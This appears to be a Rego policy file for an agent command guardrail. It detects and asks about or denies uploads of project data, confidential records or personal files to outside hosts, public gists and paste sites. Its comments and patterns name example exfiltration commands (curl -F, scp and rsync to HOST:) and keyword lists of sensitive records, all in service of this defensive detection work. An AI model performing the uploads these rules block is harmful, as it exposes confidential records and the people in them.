# tips, whistleblowers, informants; privacy law's special categories and HR/finance records:
# patients, medical, PHI/PII (HIPAA 45 CFR 164.514, GDPR art. 9), payroll, salaries, SSN,
# passports; and the people of a business: customers, contacts, employees, subscribers). The
# generic words of people_words (user, profile, ticket, member, client) are not here: a
# users-guide.pdf is documentation.
confidential_words := {
	"unredacted", "leak", "leaks", "leaked", "source", "sources", "tip", "tips", "tipline",
	"whistleblower", "whistleblowers", "informant", "informants", "confidential", "restricted",
	"privileged", "classified", "nda", "patient", "patients", "medical", "phi", "pii", "payroll",
	"salary", "salaries", "ssn", "passport", "passports", "customer", "customers", "contact",
	"contacts", "employee", "employees", "personnel", "hr", "subscribers", "complainants",
	"victims", "witnesses", "iban",
}

# Code, configuration, build files and media say nothing about records whatever their name
# (sources.list, contact_form.py, leak_test.rs).
not_records_re := `(?i)\.(py|js|mjs|cjs|ts|tsx|jsx|rs|go|java|kt|rb|php|c|h|cc|cpp|hpp|cs|swift|css|scss|svg|png|jpe?g|gif|webp|ico|toml|ya?ml|lock|sh|ps1|ipynb|list|conf|ini|cfg|properties|gradle|mod|sum|wasm|so|dll|exe|o|a|class|jar|map|lua|pl|r|sql\.tmpl)$`

# A confidential file or folder: a confidential word in its path below the project (or in the
# last four components of a path elsewhere, the home's own name not read):
# complaints_unredacted/x.pdf, data/tips/triaged.jsonl, intake/leak-0412/extracted/a.docx, the
# file not code, configuration or media. "source" naming an archive (source.tar.gz) or a
# folder with no other word of records (Sphinx's source/, Swift's Sources/) is code.
confidential_path(path) if {
	not regex.match(not_records_re, path)
	some w in path_words(path)
	w in confidential_words
	not source_code_word(path, w)
}

path_words(path) := {w |
	root := concat("", [lower(object.get(ff, "project_dir", "")), "/"])
	some w in regex.split(`[^a-z0-9]+`, substring(lower(path), count(root), -1))
	w != ""
} if in_project(path)

path_words(path) := last_words(path, 4) if not in_project(path)

in_project(path) if {
	d := lower(object.get(ff, "project_dir", ""))
	d != ""
	startswith(lower(path), concat("", [d, "/"]))
}

source_code_word(path, w) if {
	w in {"source", "sources"}
	data_kind(path) == "archive"
}

source_code_word(path, w) if {
	w in {"source", "sources"}
	data_kind(path) == "folder"
	count({v | some v in last_words(path, 2); v in record_folder_words}) == 0
}

# What an upload sends: its source, and every other file or folder the same program read for
# it, a word of the same command (rsync -az archive/ notes/ HOST:, scp a.pdf b.pdf HOST:).
sent_paths(u) := {src} | {p.path |
	some p in f_paths
	p.via == "shell"
	p.access == "read"
	startswith(object.get(p, "how", ""), u.program)
	p.evidence != ""
	contains(u.evidence, p.evidence)
	some c in {"project", "temp"}
	c in p.classes
} if {
	src := sh.upload_source(u)
	not startswith(src, "<")
	src != ""
}

# Where an upload's data lands, for the judgement of data sent away: the host, or for rclone a
# configured remote's name (rclone copy DIR REMOTE:PATH; rclone docs "remote:path").
dest_name(u) := split(u.target, ":")[0] if {
	u.program == "rclone"
	not contains(u.target, "://")
} else := sh.target_host(u.target)

# A destination that is another party, not the project's own or a service it works with: for
# HTTP clients, interpreters and the other carriers an outside host (outside) that is not a
# well-known service of the project (shell.rego data_services) and not a service the command
# authenticates to with a credential in a header or as the user (the user's account there);
# for the user's own transfer tools (scp, rsync, rclone, object-store clients) a bare public
# address, a host or bucket named for handing over, or a remote named as a personal account.
away_sink(u) if {
	not u.program in sh.own_transfer_programs
	outside(u)
	h := sh.target_host(u.target)
	not sh.data_service(h)
	not presented_credential(h)
}

away_sink(u) if {
	u.program in sh.own_transfer_programs
	not sh.local_target(u.target)
	d := dest_name(u)
	own_tool_away(u, d)
}

own_tool_away(_, d) if handover_host(d)

own_tool_away(_, d) if {
	some w in regex.split(`[^a-z0-9]+`, lower(d))
	w in {"personal", "private", "home", "my", "mine"}
}

presented_credential(host) if {
	some h in f_uploads
	sh.sent_in_header(h)
	sh.target_host(h.target) == host
}

presented_credential(host) if {
	some c in f_commands
	c.program in {"curl", "wget", "http", "https", "xh"}
	credential_option(c.argv)
	some a in c.argv
	regex.match(`^(?i)https?://`, a)
	sh.target_host(a) == host
}

# A credential presented by an HTTP client: a user (-u, --user, --auth), a bearer token, or an
# Authorization, API-key or token header (curl(1) --user, --oauth2-bearer, --header).
credential_option(argv) if {
	some a in argv
	regex.match(`^(?:-u|--user|--oauth2-bearer|-a|--auth)$|^-u.|^--user=|^--oauth2-bearer=`, a)
}

credential_option(argv) if {
	some i, a in argv
	a in {"-H", "--header"}
	regex.match(`(?i)^\s*(?:authorization|x-api-key|api-key|x-auth-token|private-token|x-[a-z-]*token)\s*:`, argv[i + 1])
}

# A destination anyone can read: a public gist (gh gist create --public / -p; GitHub CLI manual
# "gh gist create": gists are secret unless --public), a public snippet (glab snippet create
# --visibility public), an anonymous file-drop or paste site (shell.rego drop_sites).
public_destination(u) if {
	u.program == "gh"
	sh.target_host(u.target) == "gist.github.com"
	regex.match(`(?:^|\s)(?:--public|-p|--public=true)(?:\s|$)`, u.evidence)
}

public_destination(u) if {
	u.program == "glab"
	regex.match(`--visibility[= ]+public`, u.evidence)
}

public_destination(u) if sh.drop_site(sh.target_host(u.target))

# @rule flow/data-sent-away ask
# A file of the project's data — a document, a mailbox or message, an archive, or a folder whose name says it keeps records (data/, archive/, notes/, exports/, intake/) — sent to another party: by an HTTP client or an interpreter (curl -F, -T, --data-binary @, Invoke-RestMethod -InFile, requests.post(files=…)) to an outside host that is not a well-known service of the project (code hosts' APIs and release assets, package registries, CI and observability vendors: shell.rego data_services) and that the command presents no credential to; by scp, rsync or rclone to a bare public address, a host named for handing over or a remote named as a personal account. Tables sent by HTTP clients are shell/data-upload; confidential or personal material and public destinations are flow/confidential-data-sent. Loopback and private hosts, the user's own named servers and buckets, code and build files are not this.
decision contains {"id": "flow/data-sent-away", "decision": "ask", "reason": reason} if {
	some u in f_uploads
	some path in sent_paths(u)
	kind := data_kind(path)
	not table_by_http(u, kind)
	not confidential_path(path)
	away_sink(u)
	not public_destination(u)
	reason := sprintf("the command would send %s (%s) to %s, outside the project's own hosts and the services it works with (%s)", [path, kind_words[kind], dest_name(u), u.evidence])
}

table_by_http(u, kind) if {
	kind == "table"
	not u.program in sh.own_transfer_programs
}

kind_words := {
	"table": "a data file", "document": "a document", "mail": "mail", "archive": "an archive",
	"folder": "a folder of records",
}

# @rule flow/confidential-data-sent deny
# Confidential material or records of people — a data file, document, mailbox, archive or folder whose path says so (unredacted, leak, sources, tips, whistleblower, patients, medical, payroll, customers, contacts, employees, PII/PHI: confidential_words) — sent to another party (as flow/data-sent-away judges the destination), or any of the project's data files, documents, mail or record folders put where anyone can read it: a public gist, a public snippet, an anonymous file-drop or paste site. A secret gist of a snippet, uploads to loopback and private hosts, to the project's code host, registries and CI services, and code files whatever their name are not this.
decision contains {"id": "flow/confidential-data-sent", "decision": "deny", "reason": reason} if {
	some u in f_uploads
	some path in sent_paths(u)
	confidential_path(path)
	confidential_kind(path)
	away_sink(u)
	not public_destination(u)
	reason := sprintf("the command would send %s, whose name says it is confidential or about people, to %s (%s)", [path, dest_name(u), u.evidence])
}

decision contains {"id": "flow/confidential-data-sent", "decision": "deny", "reason": reason} if {
	some u in f_uploads
	public_destination(u)
	some path in sent_paths(u)
	public_kind(path)
	reason := sprintf("the command would publish %s where anyone can read it, %s (%s)", [path, dest_name(u), u.evidence])
}

# Confidential material in any form but code, configuration and media: a data file, document,
# mail, archive or record folder, a text or JSON export (intake/…/contact.txt).
confidential_kind(path) if data_kind(path)

confidential_kind(path) if regex.match(`(?i)\.(txt|json|xml|html?|md|log)$`, path)

public_kind(path) if data_kind(path)

public_kind(path) if {
	confidential_path(path)
	confidential_kind(path)
}
